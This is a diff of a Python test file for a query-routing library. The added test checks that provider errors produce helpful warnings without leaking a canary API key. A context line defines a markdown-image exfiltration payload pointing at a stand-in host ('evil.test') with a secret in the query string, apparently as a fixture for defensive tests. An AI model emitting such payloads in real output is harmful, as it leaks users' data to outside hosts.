@@ -9,7 +9,7 @@ import pytest
 from fingerpost import QueryRouter
 from fingerpost.generate.safe import SafeStream
 from fingerpost.lanes.structured import read_json
-from fingerpost.testing.provider import ProviderServer
+from fingerpost.testing.provider import ProviderServer, faults
 
 IMAGE = "![x](//evil.test/?q=secret)"
 
@@ -152,3 +152,31 @@ def test_a_rewrite_with_half_a_character_can_be_searched_and_printed(corpus):
         with QueryRouter(knowledge_corpus=[corpus], **settings) as router:
             result = router.route_sync("and which modes?", history=[("user", "What is Heron?")])
     assert result.rewritten_query.encode() == "Which modes does Heron \ufffd have?".encode()
+
+
+@pytest.mark.parametrize(
+    ("fault", "told"),
+    [
+        (faults.status(401, "invalid_api_key"), "Check api_key for openai."),
+        (faults.status(404, "model_not_found"), "Set "),
+        (faults.redirect("https://other.example/v1"), "https://other.example"),
+        (faults.html(), "Check base_url."),
+    ],
+    ids=str,
+)
+def test_who_gets_no_answer_of_the_model_is_told_what_to_do(corpus, caplog, fault, told):
+    given = {"classifier_provider": "openai", "generation_provider": "openai"}
+    with (
+        ProviderServer(fault) as server,
+        QueryRouter(
+            knowledge_corpus=[corpus],
+            embedding_provider="none",
+            base_url=f"{server.url}/v1",
+            api_key="sk-canary-0123456789abcdef",
+            **given,
+        ) as router,
+    ):
+        router.route_sync("What is the default mode?", tier=1)
+    [warning] = [m for m in caplog.messages if m.startswith("the model wrote no answer")]
+    assert told in warning
+    assert "sk-canary" not in caplog.text
